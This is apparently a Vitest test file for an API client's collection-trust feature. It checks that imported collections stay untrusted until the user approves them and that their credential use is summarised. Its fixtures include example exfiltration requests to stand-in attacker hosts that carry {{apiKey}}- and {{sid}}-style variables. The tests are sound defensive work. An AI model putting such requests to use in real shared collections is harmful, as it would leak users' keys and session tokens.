import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { createCollectionsService } from '../../../../electron/core/collections/collections-service';
import { openWorkspaceStore, WORKSPACE_SCHEMA_VERSION } from '../../../../electron/core/collections/workspace-store';
import { makeTempDir } from '../../../support/temp-dir';

let temp: ReturnType<typeof makeTempDir>;
beforeEach(() => {
  temp = makeTempDir('shomei-workspace-trust-');
});
afterEach(() => {
  temp.remove();
});

const request = (id: string, url: string) => ({
  kind: 'request',
  id,
  name: id,
  method: 'GET',
  url,
  params: [],
  headers: [],
  body: { kind: 'none' },
  auth: { type: 'inherit' },
});

describe('which collections are trusted', () => {
  it('migrates a version 1 workspace: every collection it had stays trusted, and the file is written as version 2', () => {
    const v1 = {
      schemaVersion: 1,
      data: {
        collections: [
          {
            id: 'mine',
            name: 'Mine',
            settings: { auth: { type: 'inherit' }, headers: [], variables: [] },
            items: [request('r1', 'https://a.example/x')],
          },
          {
            id: 'older-import',
            name: 'Older import',
            settings: { auth: { type: 'inherit' }, headers: [], variables: [] },
            items: [],
          },
        ],
        environments: [],
        activeEnvironmentId: null,
      },
    };
    writeFileSync(join(temp.dir, 'workspace.json'), JSON.stringify(v1));
    const workspace = openWorkspaceStore({ dataDir: temp.dir, saveDelayMs: 0 });
    expect(workspace.notice).toBeUndefined();
    const collections = createCollectionsService({ workspace });
    expect(collections.isTrusted('mine')).toBe(true);
    expect(collections.isTrusted('older-import')).toBe(true);
    expect(collections.getCollection('mine').items).toHaveLength(1);
    collections.rename({ id: 'mine', name: 'Mine too' });
    collections.flush();
    const written = JSON.parse(readFileSync(join(temp.dir, 'workspace.json'), 'utf8')) as {
      schemaVersion: number;
      data: { trustedCollectionIds: string[] };
    };
    expect(written.schemaVersion).toBe(WORKSPACE_SCHEMA_VERSION);
    expect(written.data.trustedCollectionIds).toEqual(['mine', 'older-import']);
  });

  it('trusts what the user makes, never what is added from a file (even one that says it is trusted), until the user trusts it', () => {
    const collections = createCollectionsService({
      workspace: openWorkspaceStore({ dataDir: temp.dir, saveDelayMs: 0 }),
    });
    const made = collections.createCollection({ name: 'Made here' });
    expect(collections.isTrusted(made.id)).toBe(true);
    const hostile = {
      id: made.id,
      name: 'Shared',
      isTrusted: true,
      trustedCollectionIds: [made.id],
      settings: { variables: [{ id: 'v', name: 'own', value: 'Key {{apiKey}}', isEnabled: true, isSecret: false }] },
      items: [
        request('x', 'https://attacker.example/steal?k={{own}}&t={{$timestamp}}'),
        request('y', 'wss://sockets.attacker.example:8443/chat?sid={{sid}}'),
      ],
    };
    const added = collections.addCollection(hostile as never);
    expect(added.id).not.toBe(made.id);
    expect(collections.isTrusted(added.id)).toBe(false);
    expect(collections.trustSummary(added.id)).toMatchObject({
      isTrusted: false,
      hosts: ['attacker.example', 'sockets.attacker.example:8443'],
      // What it takes from the user's environment: not its own {{own}}, nor the built-in {{$timestamp}}.
      environmentVariables: ['apiKey', 'sid'],
    });
    const copy = collections.duplicate({ id: added.id });
    expect(collections.isTrusted(copy.id)).toBe(false);
    expect(collections.trust(added.id).isTrusted).toBe(true);
    expect(collections.isTrusted(added.id)).toBe(true);
    expect(collections.isTrusted(copy.id)).toBe(false);
    expect(collections.isTrusted(collections.duplicate({ id: made.id }).id)).toBe(true);
  });

  it('a request of an untrusted collection is not moved into a trusted one (that would trust it unreviewed); once trusted, it is', () => {
    const collections = createCollectionsService({
      workspace: openWorkspaceStore({ dataDir: temp.dir, saveDelayMs: 0 }),
    });
    const mine = collections.createCollection({ name: 'Mine' });
    const shared = collections.addCollection({
      id: 'shared',
      name: 'Shared',
      settings: {},
      items: [request('steal', 'https://attacker.example/steal'), request('other', 'https://attacker.example/other')],
    } as never);
    const [steal, other] = shared.items.map((item) => item.id) as [string, string];
    expect(() => collections.move({ id: steal, collectionId: mine.id })).toThrow(
      expect.objectContaining({
        code: 'UNTRUSTED',
        message: expect.stringMatching(
          /^Not moved: "steal" belongs to "Shared", which was imported and is not trusted yet/,
        ),
      }),
    );
    expect(collections.getRequest(steal).collection.id).toBe(shared.id);
    expect(collections.getCollection(mine.id).items).toEqual([]);
    // Within the untrusted collection, and out of a trusted one into it, a move is only a move.
    collections.move({ id: other, collectionId: shared.id, index: 0 });
    const made = collections.createRequest({
      collectionId: mine.id,
      request: { name: 'mine', method: 'GET', url: 'https://example.com/' },
    });
    collections.move({ id: made.id, collectionId: shared.id });
    expect(collections.getRequest(made.id).collection.id).toBe(shared.id);
    collections.trust(shared.id);
    collections.move({ id: steal, collectionId: mine.id });
    expect(collections.getRequest(steal).collection.id).toBe(mine.id);
  });
  it('"Save as" of an untrusted collection’s request into a trusted one is refused the same way; within it, or once trusted, it saves', () => {
    const collections = createCollectionsService({
      workspace: openWorkspaceStore({ dataDir: temp.dir, saveDelayMs: 0 }),
    });
    const mine = collections.createCollection({ name: 'Mine' });
    const shared = collections.addCollection({
      id: 'shared',
      name: 'Shared',
      settings: {},
      items: [request('steal', 'https://attacker.example/steal')],
    } as never);
    const original = shared.items[0]?.id ?? '';
    const copy = { name: 'my copy', method: 'GET', url: 'https://attacker.example/steal' };
    expect(() => collections.createRequest({ collectionId: mine.id, request: copy, copiedFrom: original })).toThrow(
      expect.objectContaining({
        code: 'UNTRUSTED',
        message: expect.stringMatching(/^Not saved: a copy of "steal" belongs to "Shared", which was imported/),
      }),
    );
    expect(collections.getCollection(mine.id).items).toEqual([]);
    expect(collections.createRequest({ collectionId: shared.id, request: copy, copiedFrom: original }).name).toBe(
      'my copy',
    );
    collections.trust(shared.id);
    expect(collections.createRequest({ collectionId: mine.id, request: copy, copiedFrom: original }).name).toBe(
      'my copy',
    );
  });
  it('the banner names every kind of credential the collection would use, and the OAuth token URL among the hosts', () => {
    const collections = createCollectionsService({
      workspace: openWorkspaceStore({ dataDir: temp.dir, saveDelayMs: 0 }),
    });
    const withAuth = (id: string, auth: object) => ({ ...request(id, `https://api.example/${id}`), auth });
    const shared = collections.addCollection({
      id: 'shared',
      name: 'Shared',
      settings: {},
      items: [
        withAuth('b', { type: 'bearer', tokenRef: { kind: 'variables', text: '{{token}}' } }),
        withAuth('u', { type: 'basic', username: 'me', passwordRef: { kind: 'variables', text: '{{pw}}' } }),
        withAuth('o', {
          type: 'oauth2',
          tokenUrl: 'https://login.attacker.example/token',
          clientId: 'c',
          clientSecretRef: { kind: 'variables', text: '{{clientSecret}}' },
        }),
        withAuth('a', { type: 'aws-sigv4', credentialSource: { source: 'default-chain' } }),
      ],
    } as never);
    const summary = collections.trustSummary(shared.id);
    expect(summary.credentialSources).toEqual([
      'OAuth 2.0 client credentials, sent to login.attacker.example',
      'a bearer token',
      'a user name and password (Basic)',
      'the default credential chain',
    ]);
    expect(summary.hosts).toContain('login.attacker.example');
  });
});
